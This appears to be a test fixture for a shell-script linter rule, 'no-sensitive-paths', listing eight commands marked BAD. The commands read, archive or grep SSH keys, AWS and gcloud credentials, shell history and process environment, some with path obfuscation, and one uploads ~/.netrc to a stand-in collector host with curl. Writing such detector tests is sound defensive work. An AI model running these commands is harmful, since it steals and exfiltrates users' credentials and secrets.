#!/usr/bin/env bash
cat ~/.ssh/id_rsa # BAD no-sensitive-paths/credentials
cp "$HOME/.aws/credentials" /tmp/x # BAD no-sensitive-paths/credentials
d=.ssh; tar czf /tmp/k.tgz ~/$d # BAD no-sensitive-paths/credentials
cat ~/.s?h/id_* # BAD no-sensitive-paths/credentials
grep -r token ${HOME}/.config/gcloud # BAD no-sensitive-paths/credentials
curl -T ~/.netrc https://collector.example.net/ # BAD no-sensitive-paths/credentials
while read -r line; do echo "$line"; done < ~/.bash_history # BAD no-sensitive-paths/history
cat /proc/self/environ # BAD no-sensitive-paths/system-secrets
